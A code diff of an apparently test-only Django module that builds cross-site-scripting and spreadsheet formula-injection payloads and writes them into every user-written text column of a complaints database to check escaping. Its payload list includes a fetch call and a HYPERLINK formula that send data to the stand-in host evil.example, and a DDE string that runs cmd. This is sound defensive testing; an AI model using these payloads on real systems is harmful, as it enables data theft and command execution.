@@ -1,10 +1,16 @@
 """Words that are meant to become something else: page, header, formula, request. Made here."""
 
+import itertools
 import re
+from collections.abc import Iterable, Iterator
 from html.parser import HTMLParser
 from itertools import product
+from typing import Any
 
-from django.db import models
+from django.db import IntegrityError, models, transaction
+
+from cases.models import StoredFile
+from cases.operations.files import clean_name
 
 ACTS = ("alert(9)", "window.__xss=9", "fetch('//evil.example')")
 _OPENINGS = ("", '">', "'>", "</textarea>", "</title>", "</script>", "-->", "]]>")
@@ -36,6 +42,9 @@ _OTHERS = (
     "&lt;script&gt;{act}&lt;/script&gt;",
     "<scr<script>ipt>{act}</scr</script>ipt>",
     "<<script>{act}//<</script>",
+    '=HYPERLINK("//evil.example?x="&A1,"{act}")',
+    "@SUM(1+1)*cmd|' /C {act}'!A0",
+    "\t=1+1;{act}",
 )
 
 
@@ -48,70 +57,153 @@ def payloads() -> list[str]:
     return [*made, *(each.format(act=act) for act in ACTS for each in _OTHERS)]
 
 
-# Fields in which somebody writes, by the name of their table.
-WRITTEN = {
-    "customer": "name address phone needs",
-    "representative": "name relationship phone address authority_seen scope",
-    "jointcomplainant": "capacity",
-    "servicearea": "name",
-    "user": "name job_title phone",
-    "procedure": "name",
-    "category": "name",
-    "closure": "name",
-    "complaint": "summary desired_outcome",
-    "deadline": "words",
-    "storedfile": "name scan_words",
-    "informationrequest": "to_name question shown",
-    "landlord": "name telephone address website opening_hours emergency_telephone award_guidance",
-    "servicerequest": "words passed_to done_words",
-    "listexport": "reason",
-    "inboundmail": "sender_name sender subject text reason",
-    "outboundmessage": "subject body last_error",
-    "letter": "to_name to_address subject body easy_read other_text sender signed",
-    "letterdraft": "typed",
-    "letterproposal": "typed body",
-    "contactrestriction": "limits reason evidence considered",
-    "declaredinterest": "relation name",
-    "lesson": "you_said we_did",
-    "outsidebodydetails": "name telephone website address words",
-    "savedview": "name",
-    "remark": "words answer",
-    "restrictionletter": "to_name to_address body sender signed",
-    "remarkletter": "to_name to_address body other_text language_because",
-    "submission": "reason",
-    "weeklyreport": "area_name subject body",
-    "reportline": "officer next_due",
+# Columns of text in which nobody writes words, by the reason. Every other one is written into,
+# and so is a new one. What choices or a constraint of the database bind to a list are not asked.
+NO_WORDS = {
+    "drawn here by chance, or worked out from what was written": (
+        "anchor.hash anchor.previous_hash calendarfeed.name complaint.reference "
+        "consentlink.token_hash contactrestriction.code customer.code declaredinterest.code "
+        "declaredinterest.name_key dispatch.key dispatch.mark draft.code_hash draft.key "
+        "draft.source draft.token_hash eventwords.salt formfile.source inboundmail.code "
+        "inboundmail.key informationrequest.code informationrequest.token_hash "
+        "landlord.logo_mark letterproposal.salt letterproposal.words_hash loggedform.key "
+        "outboundmessage.key outboundmessage.message_id proposedrole.code recordedevent.hash "
+        "recordedevent.previous_hash recordedevent.words_hash remark.reference "
+        "reportline.reference servicerequest.reference storedfile.key storedfile.sha256 "
+        "submission.email_hash submission.key submission.reference submission.signs "
+        "submission.source submission.text_hash submission.token_hash surveyrequest.code "
+        "trackingcode.browser_hash trackingcode.code_hash trackinglink.token_hash "
+        "trackingvisit.token_hash user.code"
+    ),
+    "a code of the product, of a procedure or of a list of the landlord's": (
+        "alert.code alert.reminder alert.stage calendaredition.weekdays caseview.page "
+        "category.code complaint.channel complaint.closed_as complaint.next_due "
+        "complaint.next_due_binds complaint.stage contactrestriction.closed contractor.code "
+        "customer.category customer.language customer.preferred_channel "
+        "customer.restricted_contact deadline.anchor_event deadline.binds deadline.code "
+        "deadline.period deadline.stage document.letter_format equalitycount.answer "
+        "equalitycount.characteristic job.name jobslot.job jobslot.slot "
+        "landlord.approved_letters landlord.award_limits landlord.logo_type letter.channel "
+        "letter.kind letter.letter_format letter.other_language letterdraft.act "
+        "letterdraft.stage letterproposal.act letterproposal.kind letterproposal.stage "
+        "lettertemplate.language lettertemplate.letter outboundmessage.kind "
+        "outsidebodydetails.code presence.act procedure.code recordedevent.facts "
+        "recordedevent.stage remark.channel remarkletter.channel remarkletter.letter_format "
+        "remarkletter.other_language remarkletter.purpose restrictionletter.channel "
+        "restrictionletter.letter_format servicearea.code servicearea.path "
+        "servicerequest.channel settingschange.act settingschange.key "
+        "stagetransition.from_stage stagetransition.to_stage stagetransition.why "
+        "storedfile.media_type"
+    ),
+    "taken in one form only, which the form checks: colours, origins, a postcode": (
+        "customer.postcode declaredinterest.postcode landlord.action_colour "
+        "landlord.brand_colour landlord.frame_origins"
+    ),
+    "the hash of a password": ("user.password"),
+    "shown on no page: found by, never read": (
+        "searchentry.names searchentry.notes searchentry.places searchentry.words"
+    ),
 }
+# What of a file of terms are codes; and the form of a code, a number, a day or a period.
+_NO_WORDS_WITHIN = frozenset({"reminders", "rules"})
+_CODE = re.compile(r"[a-z0-9_:.\-]*|-?[0-9]+ [a-z ]+")
+TEXTS = (models.CharField, models.TextField, models.JSONField)
 
 
-# What of an act is typed in words.
-TYPED = frozenset({"letter", "reason", "late_because", "easy_read", "other_text", "words"})
+def text_fields(table: type[models.Model]) -> list[str]:
+    """Return the columns of a table that hold text which nothing binds to a list."""
+    bound = {
+        name.removesuffix("__in")
+        for each in table._meta.constraints
+        if isinstance(each, models.CheckConstraint)
+        for name in _names(each.condition)
+        if name.endswith("__in")
+    }
+    return [
+        each.name
+        for each in table._meta.concrete_fields
+        if isinstance(each, TEXTS) and not each.choices and each.name not in bound
+    ]
 
 
-def _typed(typed: dict[str, list[str]], text: str) -> dict[str, list[str]]:
-    """Return what was typed of an act with a payload in the place of all words."""
-    return {name: [text] if name in TYPED else given for name, given in typed.items()}
+def _names(condition: object) -> Iterator[str]:
+    if isinstance(condition, models.Q):
+        for each in condition.children:
+            yield from _names(each)
+    elif isinstance(condition, tuple):
+        yield condition[0]
 
 
-def write_everywhere(tables: list[type[models.Model]]) -> int:
-    """Write another payload into every field that is filled in, and say into how many."""
-    texts = payloads()
-    number = 0
-    for table in tables:
-        fields = WRITTEN.get(table._meta.model_name or "", "").split()
-        for row in table._default_manager.all() if fields else ():
-            changes = {}
-            for name in fields:
-                if not getattr(row, name):
-                    continue
-                longest = table._meta.get_field(name).max_length
-                text = texts[(number * 7) % len(texts)]
+def written_fields(tables: Iterable[type[models.Model]]) -> set[str]:
+    """Return the columns, each as table.column, in which somebody writes."""
+    found = {f"{each._meta.model_name}.{name}" for each in tables for name in text_fields(each)}
+    return found - {name for names in NO_WORDS.values() for name in names.split()}
+
+
+def _typed(value: Any, text: str) -> Any:
+    """Return what was kept together with a payload in the place of all words."""
+    if isinstance(value, dict):
+        return {
+            name: each if name in _NO_WORDS_WITHIN else _typed(each, text)
+            for name, each in value.items()
+        }
+    if isinstance(value, list):
+        return [_typed(each, text) for each in value]
+    return text if isinstance(value, str) and not _CODE.fullmatch(value) else value
+
+
+def _address(text: str, number: int) -> str:
+    """Return an address for e-mail that is valid, and is a payload as far as that allows."""
+    kept = "".join(sign for sign in text if sign.isascii() and sign.isprintable())
+    local = kept.replace("\\", "").replace('"', '\\"')
+    return f'"{local[:40]}{number}"@x.example'
+
+
+def write_everywhere(tables: Iterable[type[models.Model]]) -> set[str]:
+    """Write another payload into every field in which somebody writes, and return the fields.
+
+    Those that are filled in are written; of a field that nowhere is, those that may be.
+    """
+    texts = itertools.cycle(payloads()[::7])
+    tables = list(tables)
+    done: set[str] = set()
+    for only_filled in (True, False):
+        for table, name in _columns(tables, written_fields(tables) - done):
+            for row in table._default_manager.order_by("pk"):
                 value = getattr(row, name)
-                changes[name] = _typed(value, text) if isinstance(value, dict) else text[:longest]
-                number += 1
-            if changes:
-                table._default_manager.filter(pk=row.pk).update(**changes)
-    return number
+                if only_filled and not value:
+                    continue
+                if _write(row, name, value, next(texts)):
+                    done.add(f"{table._meta.model_name}.{name}")
+    return done
+
+
+def _columns(
+    tables: list[type[models.Model]], names: set[str]
+) -> Iterator[tuple[type[models.Model], str]]:
+    for table in tables:
+        for name in text_fields(table):
+            if f"{table._meta.model_name}.{name}" in names:
+                yield table, name
+
+
+def _write(row: models.Model, name: str, value: Any, text: str) -> bool:
+    field = row._meta.get_field(name)
+    new = _typed(value, text)
+    if isinstance(field, models.EmailField):
+        new = _address(text, row.pk)
+    elif isinstance(row, StoredFile):
+        new = clean_name(text)
+    elif not isinstance(field, models.JSONField):
+        new = text[: field.max_length]
+    if new == value:
+        return False
+    try:
+        with transaction.atomic():
+            type(row)._default_manager.filter(pk=row.pk).update(**{name: new})
+    except IntegrityError:
+        return False
+    return True
 
 
 class Found(HTMLParser):
